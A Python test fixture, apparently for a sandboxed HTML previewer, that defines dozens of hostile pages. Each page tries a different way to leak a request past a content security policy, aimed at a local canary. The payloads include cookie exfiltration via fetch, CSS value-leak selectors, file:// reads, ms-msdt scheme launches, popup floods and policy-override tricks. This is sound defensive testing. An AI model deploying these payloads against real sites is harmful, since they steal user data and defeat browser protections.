# ruff: noqa: E501 - a page is one line, however long: that is how it is compared and copied
"""Hostile pages by class, one way out each; `%AT%` is the canary's web address with the page's name in its path."""

from __future__ import annotations


def js(code: str) -> str:
    return f"<script>{code}</script>"


LOADERS = {  # what a document loads by itself
    "img": '<img src="%AT%">',
    "img-srcset": '<img srcset="%AT% 1x, %AT%2 2x"><picture><source srcset="%AT%3"><img></picture>',
    "img-lazy": '<img loading=lazy src="%AT%"><img decoding=async src="%AT%2">',
    "input-image": '<input type=image src="%AT%">',
    "script-src": '<script src="%AT%"></script>',
    "script-module": '<script type=module src="%AT%"></script>',
    "script-import": '<script type=module>import "%AT%"</script>',
    "script-dynamic-import": '<script>import("%AT%")</script>',
    "import-map": '<script type=importmap>{"imports":{"x":"%AT%"}}</script><script type=module>import "x"</script>',
    "module-preload": '<link rel=modulepreload href="%AT%">',
    "stylesheet": '<link rel=stylesheet href="%AT%">',
    "stylesheet-xml": '<link rel="alternate stylesheet" title=x href="%AT%"><link rel=stylesheet media=print href="%AT%2">',
    "css-import": '<style>@import url("%AT%") layer(x) supports(display: grid) screen;</style>',
    "css-import-chain": '<style>@import "data:text/css,@import%20%22%AT%%22";</style>',
    "css-background": "<style>body{background:url(%AT%)}</style>",
    "css-image-set": '<style>body{background:image-set("%AT%" 1x, url(%AT%2) 2x)}</style>',
    "css-attributes": '<style>input[value^="s"]{background:url(%AT%)}</style><input value="secret">',
    "css-cursor": "<style>html,body{height:100%;cursor:url(%AT%),auto}</style>",
    "css-list": "<style>li{list-style-image:url(%AT%)}</style><ul><li>x</ul>",
    "css-content": "<style>p::before{content:url(%AT%)}</style><p>x",
    "css-mask": "<style>p{-webkit-mask:url(%AT%);mask:url(%AT%2);clip-path:url(%AT%#a);filter:url(%AT%#f)}</style><p>x",
    "css-border": "<style>p{border:9px solid;border-image:url(%AT%) 3;shape-outside:url(%AT%2);float:left}</style><p>x",
    "css-cross-fade": "<style>p{background:-webkit-cross-fade(url(%AT%),url(%AT%2),50%)}</style><p>x",
    "css-property": "<style>:root{--x:url(%AT%)}p{background:var(--x)}</style><p>x",
    "css-escapes": "<style>p{background:\\75 \\72 \\6c (%AT%)}</style><p>x",
    "css-object-model": js(
        'let s=new CSSStyleSheet();s.replaceSync("*{background:url(%AT%)}");document.adoptedStyleSheets=[s]'
    ),
    "css-paint-worklet": js('CSS.paintWorklet.addModule("%AT%")'),
    "font-face": "<style>@font-face{font-family:f;src:url(%AT%)}p{font-family:f}</style><p>x",
    "font-api": js('let f=new FontFace("f","url(%AT%)");f.load()'),
    "svg-image": '<svg><image href="%AT%" width=9 height=9 /><image xlink:href="%AT%2" width=9 height=9 /></svg>',
    "svg-use": '<svg><use href="%AT%#x"/><use xlink:href="%AT%2#x"/></svg>',
    "svg-feimage": '<svg width=9 height=9><filter id=f><feImage href="%AT%"/></filter><rect filter=url(#f) width=9 height=9 /></svg>',
    "svg-paint": '<svg width=9 height=9><rect fill="url(%AT%#p)" stroke="url(%AT%2#p)" mask="url(%AT%3#m)" width=9 height=9 /></svg>',
    "svg-style": '<svg><style>@import "%AT%";*{fill:url(%AT%2#a)}</style><script href="%AT%3"></script></svg>',
    "svg-animate": '<svg width=9 height=9><image width=9 height=9 href=""><set attributeName=href to="%AT%"/></image></svg>',
    "svg-foreign": '<svg><foreignObject width=9 height=9><img xmlns="http://www.w3.org/1999/xhtml" src="%AT%"/></foreignObject></svg>',
    "svg-in-data": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22%AT%%22/></svg>">',
    "mathml": '<math href="%AT%"><mi xlink:href="%AT%2">x</mi><annotation-xml encoding="text/html"><img src="%AT%3"></annotation-xml></math>',
    "video": '<video src="%AT%" poster="%AT%2" autoplay muted></video><video><source src="%AT%3"><track src="%AT%4" default></video>',
    "audio": '<audio src="%AT%" preload=auto></audio>',
    "object": '<object data="%AT%"></object><embed src="%AT%2"><object type="text/html" data="%AT%3"></object>',
    "iframe": '<iframe src="%AT%"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<img src=%AT%><script>fetch('%AT%2',{mode:'no-cors'})</script>\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<img src=%AT%><script>fetch('%AT%2',{mode:'no-cors'})</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:'<img src=%AT%>'\"></iframe>",
    "iframe-blank": js(
        "let f=document.createElement('iframe');document.documentElement.append(f);"
        "f.contentDocument.write('<img src=%AT%>');f.contentWindow.fetch('%AT%2',{mode:'no-cors'})"
    ),
    "iframe-blob": js(
        "let f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=%AT%>'],{type:'text/html'}));"
        "document.documentElement.append(f)"
    ),
    "frameset": '<frameset><frame src="%AT%"></frameset>',
    "portal": '<portal src="%AT%"></portal><fencedframe src="%AT%2"></fencedframe>',
    "body-background": '<body background="%AT%"><table background="%AT%2"><td background="%AT%3">x</table>',
    "manifest": '<link rel=manifest href="%AT%"><link rel=icon href="%AT%2"><link rel=apple-touch-icon href="%AT%3">',
    "base": '<base href="%AT%/"><img src="x.png"><link rel=stylesheet href="x.css">',
    "template": '<div><template shadowrootmode=open><img src="%AT%"><style>@import "%AT%2"</style></template></div>',
    "broken-markup": '<img src="%AT%<p>"><img/src="%AT%2"onerror=x><svg/onload=fetch("%AT%3",{mode:"no-cors"})>',
    "xslt": '<?xml-stylesheet href="%AT%" type="text/xsl"?><p>x',
}

HINTS = {  # what a browser fetches before anybody asks
    "preconnect": '<link rel=preconnect href="%AT%"><link rel="preconnect" crossorigin href="%AT%">',
    "preconnect-late": js(
        "let l=document.createElement('link');l.rel='preconnect';l.href='%AT%';document.head.append(l)"
    ),
    "dns-prefetch": '<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href="%AT%">'
    '<link rel=dns-prefetch href="//secret.vesper-canary.test"><a href="//anchor.vesper-canary.test">x</a>',
    "prefetch": '<link rel=prefetch href="%AT%"><link rel=prerender href="%AT%2"><link rel="next" href="%AT%3">',
    "preload": '<link rel=preload as=image href="%AT%"><link rel=preload as=fetch href="%AT%2"><link rel=preload as=font crossorigin href="%AT%3">',
    "speculation": '<script type=speculationrules>{"prefetch":[{"urls":["%AT%"],"eagerness":"immediate"}],'
    '"prerender":[{"urls":["%AT%2"],"eagerness":"immediate"}]}</script>',
    "early-hints-meta": '<meta http-equiv="Link" content="<%AT%>; rel=preload; as=style"><meta http-equiv="Set-Cookie" content="a=b">',
    "csp-report": '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-uri %AT%"><img src="%AT%2">',
    "reporting-api": '<meta http-equiv="Report-To" content=\'{"group":"x","max_age":9,"endpoints":[{"url":"%AT%"}]}\'>'
    '<meta http-equiv="Content-Security-Policy" content="img-src \'none\'; report-to x"><img src="data:,">',
    "attribution": '<img attributionsrc="%AT%" src="data:,"><a id=a attributionsrc="%AT%2" href="#">x</a><script>a.click()</script>',
}

SCRIPTED = {  # what a script sends
    "fetch": js('fetch("%AT%",{mode:"no-cors",method:"POST",body:document.cookie})'),
    "fetch-keepalive": js(
        'fetch("%AT%",{mode:"no-cors",keepalive:true});fetchLater&&fetchLater("%AT%2",{activateAfter:0})'
    ),
    "fetch-on-leave": js(
        'onpagehide=onbeforeunload=()=>navigator.sendBeacon("%AT%");setTimeout(()=>location.reload(),50)'
    ),
    "xhr": js('let x=new XMLHttpRequest;x.open("GET","%AT%");x.send()'),
    "xhr-sync": js('let x=new XMLHttpRequest;x.open("GET","%AT%",false);try{x.send()}catch(e){}'),
    "beacon": js('navigator.sendBeacon("%AT%","x")'),
    "image-object": js('new Image().src="%AT%"'),
    "audio-object": js('new Audio("%AT%").play().catch(()=>0)'),
    "event-source": js('new EventSource("%AT%")'),
    "websocket": js('new WebSocket("%WS%")'),
    "websocket-stream": js('window.WebSocketStream&&new WebSocketStream("%WS%")'),
    "webtransport": js('new WebTransport("https://127.0.0.1:%UDP%/x")'),
    "webrtc-stun": js(
        "let p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:%UDP%'}]});p.createDataChannel('x');"
        "p.createOffer().then(o=>p.setLocalDescription(o))"
    ),
    "webrtc-turn": js(
        "let p=new RTCPeerConnection({iceServers:[{urls:['turn:127.0.0.1:%TCP%?transport=tcp','turns:127.0.0.1:%TCP%','turn:127.0.0.1:%UDP%'],"
        "username:'u',credential:'c'}],iceTransportPolicy:'relay'});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))"
    ),
    "webrtc-candidate": js(
        "let p=new RTCPeerConnection;p.setRemoteDescription({type:'offer',sdp:'v=0\\r\\no=- 1 1 IN IP4 0.0.0.0\\r\\ns=-\\r\\nt=0 0\\r\\n"
        "a=group:BUNDLE 0\\r\\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 0.0.0.0\\r\\na=mid:0\\r\\na=ice-ufrag:abcd\\r\\n"
        "a=ice-pwd:abcdefghijklmnopqrstuvwx\\r\\na=fingerprint:sha-256 '+Array(32).fill('AA').join(':')+'\\r\\na=setup:actpass\\r\\n"
        "a=sctp-port:5000\\r\\na=candidate:1 1 udp 2130706431 127.0.0.1 %UDP% typ host\\r\\n'}).then(()=>p.createAnswer())"
        ".then(a=>p.setLocalDescription(a))"
    ),
    "worker-blob": js('new Worker(URL.createObjectURL(new Blob([\'fetch("%AT%",{mode:"no-cors"})\'])))'),
    "worker-data": js("new Worker('data:text/javascript,importScripts(\"%AT%\")')"),
    "worker-shared": js('new SharedWorker(\'data:text/javascript,fetch("%AT%",{mode:"no-cors"})\')'),
    "worker-src": js('new Worker("%AT%")'),
    "service-worker": js('navigator.serviceWorker.register("%AT%")'),
    "worklet-audio": js('new AudioContext().audioWorklet.addModule("%AT%")'),
    "wasm": js('WebAssembly.compileStreaming(fetch("%AT%"))'),
    "xml-parser": js(
        "let d=new DOMParser().parseFromString('<!DOCTYPE x SYSTEM \"%AT%\"><x/>','text/xml');"
        'let x=new XSLTProcessor();x.importStylesheet(new DOMParser().parseFromString(\'<xsl:stylesheet version="1.0" '
        'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="%AT%2"/></xsl:stylesheet>\',\'text/xml\'))'
    ),
    "html-parser": js("document.body.innerHTML='<img src=\"%AT%\" onerror=\"new Image().src=\\'%AT%2\\'\">'"),
    "detached": js("document.createElement('div').innerHTML='<img src=%AT%>'"),
    "source-map": js("eval('1//# sourceMappingURL=%AT%')") + "<style>p{color:red}/*# sourceMappingURL=%AT%2 */</style>",
    "clipboard-bait": js("navigator.clipboard?.writeText('x').then(()=>new Image().src='%AT%')"),
    "payment": js(
        "new PaymentRequest([{supportedMethods:'%AT%'}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}}).canMakePayment()"
    ),
    "web-authn": js(
        "navigator.credentials?.get({publicKey:{challenge:new Uint8Array(9)}}).catch(()=>0);new Image().src='%AT%'"
    ),
    "push": js("Notification.requestPermission().then(()=>new Notification('x',{icon:'%AT%'}))"),
    "media-session": js("navigator.mediaSession.metadata=new MediaMetadata({title:'x',artwork:[{src:'%AT%'}]})"),
    "shared-storage": js("window.sharedStorage?.worklet.addModule('%AT%');document.browsingTopics?.()"),
}

LEAVING = {  # the document itself goes elsewhere
    "meta-refresh": '<meta http-equiv=refresh content="0;url=%AT%">',
    "meta-refresh-late": js(
        "let m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=%AT%';document.head.append(m)"
    ),
    "location": js('location="%AT%"'),
    "location-replace": js('setTimeout(()=>location.replace("%AT%"),50)'),
    "location-computed": js("self['loc'+'ation']['hr'+'ef']='%AT%'"),
    "navigation-api": js("navigation.navigate('%AT%')"),
    "history-then-go": js("history.pushState(0,'','?x');location.assign('%AT%')"),
    "form": '<form id=f action="%AT%" method=post><input name=a value=b></form><script>f.submit()</script>',
    "form-button": '<form id=f><button id=b formaction="%AT%">x</button></form><script>b.click()</script>',
    "form-target": '<form id=f action="%AT%" target=_blank><input name=a></form><script>f.requestSubmit()</script>',
    "form-dialog": '<iframe name=n></iframe><form id=f action="%AT%" target=n></form><script>f.submit()</script>',
    "anchor-click": '<a id=a href="%AT%" ping="%AT%2">x</a><script>a.click()</script>',
    "anchor-blank": '<a id=a href="%AT%" target=_blank rel=opener>x</a><script>a.click()</script>',
    "area": '<map name=m><area id=a href="%AT%" shape=default></map><script>a.click()</script>',
    "svg-anchor": "<svg><a id=a href='%AT%'><text>x</text></a></svg><script>a.dispatchEvent(new MouseEvent('click',{bubbles:true}))</script>",
    "download": '<a id=a href="%AT%" download=x>x</a><script>a.click()</script>',
    "window-open": js("for(let i=0;i<50;i++)window.open('%AT%'+i,'w'+i)"),
    "window-open-named": js("let w=open('about:blank','x');w&&(w.location='%AT%')"),
    "top-location": "<iframe srcdoc=\"<script>top.location='%AT%'</script>\"></iframe>",
    "javascript-url": "<a id=a href=\"javascript:fetch('%AT%',{mode:'no-cors'})\">x</a><script>a.click()</script>",
    "data-url": js("location='data:text/html,<img src=%AT%>'"),
    "blob-url": js("location=URL.createObjectURL(new Blob(['<img src=%AT%>'],{type:'text/html'}))"),
    "view-source": js("location='view-source:%AT%'"),
    "file-url": js("location='file:///etc/hostname'")
    + '<img src="file:///etc/hostname"><iframe src="file:///etc/"></iframe>',
    "own-scheme": js("location='preview://other/%AT%'") + '<iframe src="preview://page/1"></iframe>',
    "chrome-scheme": js("location='chrome://gpu'")
    + '<img src="qrc:/qt-project.org/x"><iframe src="chrome://version"></iframe>',
    "app-schemes": "".join(
        f'<iframe src="{scheme}:%AT%"></iframe>'
        for scheme in ("mailto", "tel", "vesper", "ms-msdt", "search-ms", "intent")
    ),
}

ERASING = {  # the policy itself is the target
    "write-over": js("document.open();document.write('<img src=%AT%><script src=%AT%2><\\/script>');document.close()"),
    "remove-policy": js(
        "document.querySelectorAll('meta').forEach(m=>m.remove());document.head.innerHTML='';"
        "document.body.innerHTML='<img src=%AT%>';fetch('%AT%2',{mode:'no-cors'})"
    ),
    "second-policy": '<meta http-equiv=Content-Security-Policy content="default-src * data: blob: \'unsafe-inline\'"><img src="%AT%">',
    "new-document": js(
        "let d=document.implementation.createHTMLDocument('');d.body.innerHTML='<img src=%AT%>';document.replaceChild("
        "document.adoptNode(d.documentElement),document.documentElement)"
    ),
    "nested-frames": js(
        "let f=document.createElement('iframe');f.srcdoc='<iframe srcdoc=\"<iframe src=&quot;data:text/html,<img src=%AT%>&quot;></iframe>\"></iframe>';"
        "document.documentElement.append(f)"
    ),
    "mention-policy": '<!-- Content-Security-Policy --><p title="Content-Security-Policy">x</p><img src="%AT%">',
    "sandbox-escape": '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups" srcdoc="<script>parent.document'
    ".body.innerHTML='<img src=%AT%>';top.location='%AT%2'</script>\"></iframe>",
}

WAYS_OUT = {**LOADERS, **HINTS, **SCRIPTED, **LEAVING, **ERASING}


def pages_for(tcp: int, udp: int) -> dict[str, str]:
    """Every page, aimed at a canary. What reaches it names the page."""
    return {name: _aimed(page, name, tcp, udp) for name, page in WAYS_OUT.items()}


def _aimed(page: str, name: str, tcp: int, udp: int) -> str:
    at = f"127.0.0.1:{tcp}/{name}/"
    for token, value in (("%AT%", f"http://{at}"), ("%WS%", f"ws://{at}"), ("%TCP%", str(tcp)), ("%UDP%", str(udp))):
        page = page.replace(token, value)
    return page
